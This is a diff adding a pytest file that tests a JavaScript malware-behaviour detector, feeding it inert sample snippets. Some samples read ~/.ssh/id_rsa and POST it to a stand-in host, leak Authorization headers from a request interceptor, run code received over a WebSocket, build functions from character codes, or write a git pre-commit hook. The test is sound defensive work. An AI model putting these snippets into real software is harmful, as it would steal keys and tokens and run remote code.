@@ -1,0 +1,100 @@
+"""Functions made of functions, programs in bytes, generators and intercepted requests. All of it is inert text."""
+
+from __future__ import annotations
+
+import pytest
+
+from adapters.sigil.local.code.facts import Behaviour, CodeFacts
+from adapters.sigil.local.code.javascript import javascript_facts
+
+
+def look(code: str) -> CodeFacts:
+    return javascript_facts("index.js", code.encode())
+
+
+def ways(code: str) -> set[tuple[Behaviour, Behaviour]]:
+    return {(flow.source.behaviour, flow.sink.behaviour) for flow in look(code).flows}
+
+
+_CODES = "String.fromCharCode(105, 110, 101, 114, 116)"
+FLOWING = [
+    (f"const make = [].fill.constructor;\nmake({_CODES})();", (Behaviour.DECODES, Behaviour.RUNS_CODE)),
+    (f"function f() {{}}\nconst make = f.constructor;\nmake({_CODES})();", (Behaviour.DECODES, Behaviour.RUNS_CODE)),
+    (
+        (
+            "const memory = new WebAssembly.Memory({ initial: 1 });\n"
+            "const run = () => new Function(new TextDecoder().decode(memory.buffer))();"
+        ),
+        (Behaviour.DECODES, Behaviour.RUNS_CODE),
+    ),
+    (
+        (
+            "const fs = require('fs'), os = require('os');\n"
+            "function* each() { yield ['a', os.homedir() + '/.ssh/id_rsa']; }\n"
+            "for (const [name, path] of each()) fetch('https://e.invalid/', { "
+            "method: 'POST', body: fs.readFileSync(path) });"
+        ),
+        (Behaviour.READS_SECRET_FILE, Behaviour.SENDS),
+    ),
+    (
+        (
+            "const fs = require('fs'), os = require('os');\nconst places = { a: os.homedir() + '/.ssh/id_rsa' };\n"
+            "for (const path of Object.values(places)) fetch('https://e.invalid/', { "
+            "method: 'POST', body: fs.readFileSync(path) });"
+        ),
+        (Behaviour.READS_SECRET_FILE, Behaviour.SENDS),
+    ),
+    (
+        (
+            "module.exports = (client) => client.interceptors.request.use((config) => {"
+            " fetch('https://e.invalid/?a=' + config.headers.Authorization); return config; });"
+        ),
+        (Behaviour.REPLACES_METHOD, Behaviour.SENDS),
+    ),
+    (
+        (
+            "const vm = require('vm');\nconst socket = new WebSocket('wss://e.invalid/');\n"
+            "socket.on('message', (text) => socket.send(vm.runInThisContext(text)));"
+        ),
+        (Behaviour.RUNS_CODE, Behaviour.SENDS),
+    ),
+]
+
+
+@pytest.mark.parametrize(("code", "way"), FLOWING)
+def test_data_is_followed_through_values(code: str, way: tuple[Behaviour, Behaviour]) -> None:
+    """Data is followed through constructors, opaque programs, generators, tables and what running code gives."""
+    assert way in ways(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"const make = maker.constructor;\nmake({_CODES})();",
+        f"class A {{}}\nconst kind = new A().constructor;\nkind({_CODES});",
+        (
+            "const memory = new WebAssembly.Memory({ initial: 1 });\n"
+            "console.warn(new TextDecoder().decode(memory.buffer));"
+        ),
+        (
+            "module.exports = (client) => client.interceptors.request.use((config) => { "
+            "fetch('https://e.invalid/'); return config; });"
+        ),
+        (
+            "function* each() { yield ['a', 'b']; }\n"
+            "for (const [a, b] of each()) fetch('https://e.invalid/', { method: 'POST', body: b });"
+        ),
+    ],
+)
+def test_everyday_values_let_nothing_flow(code: str) -> None:
+    """The same constructs where nothing hidden is run, and nothing of anybody's leaves."""
+    assert ways(code) == set()
+
+
+def test_hooks_of_a_repository_put_together_are_seen() -> None:
+    """A path to the hooks of a repository is known though its parts stand apart."""
+    code = (
+        "const fs = require('fs'), path = require('path');\n"
+        "fs.writeFileSync(path.join(root, '.git', 'hooks', 'pre-commit'), text);"
+    )
+    assert Behaviour.WRITES_STARTUP in {fact.behaviour for fact in look(code).facts}
